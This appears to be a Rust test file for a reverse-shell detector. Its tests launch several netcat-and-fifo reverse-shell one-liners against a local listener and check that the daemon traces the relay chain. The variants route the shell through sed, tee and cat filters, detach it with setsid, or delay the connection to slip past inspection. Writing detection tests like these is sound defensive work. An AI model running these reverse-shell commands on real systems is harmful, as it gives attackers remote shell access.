//! Filters between the shell and the socket, and relays that are no relatives of it.

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::relayed::{Relayed, prove_relayed};
use crate::common::victim::Victim;
use crate::require;

fn bash(line: &str, expected: &Relayed) {
    let (attacker, directory) = (Listener::tcp(), tempfile::tempdir().unwrap());
    let line = line.replace("PORT", &attacker.port().to_string());
    let line = format!("cd {}; {line}", directory.path().display());
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    prove_relayed(Daemon::shared(), attacker.accept(), victim, &[attacker.port()], expected);
}

#[test]
fn filters_between() {
    require!("bash", "nc.openbsd");
    Daemon::shared();
    let expected = Relayed {
        hops: &[
            "sh pipe",
            "sed pipe",
            "sed pipe",
            "tee pipe",
            "tee pipe",
            "nc.openbsd pipe",
            "nc.openbsd socket",
        ],
        ..Relayed::default()
    };
    bash("mkfifo f; nc.openbsd 127.0.0.1 PORT <f | tee log | sed -u '' | sh 2>&1 | cat >f", &expected);
}

#[test]
fn four_hops() {
    require!("bash", "nc.openbsd");
    Daemon::shared();
    let expected = Relayed {
        hops: &[
            "sh pipe",
            "cat pipe",
            "cat pipe",
            "cat pipe",
            "cat pipe",
            "cat pipe",
            "cat pipe",
            "nc.openbsd pipe",
            "nc.openbsd socket",
        ],
        ..Relayed::default()
    };
    bash("mkfifo f; nc.openbsd 127.0.0.1 PORT <f | cat | cat | cat | sh >f 2>&1", &expected);
}

/// The shell and its relay are started apart, each adopted by init and in a session of its own.
#[test]
fn two_sessions_and_no_parent() {
    require!("bash", "nc.openbsd", "setsid");
    Daemon::shared();
    let expected =
        Relayed { hops: &["sh pipe", "nc.openbsd pipe", "nc.openbsd socket"], ..Relayed::default() };
    bash(
        "mkfifo a b; setsid -f sh -c 'exec sh <a >b 2>&1'; setsid -f sh -c 'exec nc.openbsd 127.0.0.1 PORT >a <b'",
        &expected,
    );
}

/// The shell waits long before its relay connects, and others with the same descriptors were found to lead nowhere.
#[test]
fn a_relay_that_connects_late() {
    connects_late(|| {
        Daemon::shared().judged();
    });
}

/// And longer than it is looked at for its exec's sake. It executes nothing until it is found.
#[test]
fn a_relay_that_connects_very_late() {
    let began = std::time::Instant::now();
    connects_late(|| {
        crate::common::wait_for("the last look for the exec's sake", || {
            (began.elapsed() > std::time::Duration::from_secs(9)).then_some(())
        });
    });
}

fn connects_late(wait: impl FnOnce()) {
    require!("bash", "nc.openbsd");
    Daemon::shared();
    let (attacker, directory) = (Listener::tcp(), tempfile::tempdir().unwrap());
    let line = format!(
        "cd {}; mkfifo a b; exec 8<>a 9<>b; sh -c 'id -u; exec sh' <a >b 2>&1 8<&- 9<&- & read -r go; \
         exec nc.openbsd 127.0.0.1 {} <b >a 8<&- 9<&-",
        directory.path().display(),
        attacker.port()
    );
    let mut command = std::process::Command::new("/bin/bash");
    command.args(["-c", &line]).stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::null());
    let mut victim = Victim::spawn(command);
    // Only when the shell has been looked at, and found to lead nowhere, is it connected.
    wait();
    victim.say("go\n");
    let expected =
        Relayed { hops: &["sh pipe", "nc.openbsd pipe", "nc.openbsd socket"], ..Relayed::default() };
    prove_relayed(Daemon::shared(), attacker.accept(), victim, &[attacker.port()], &expected);
}
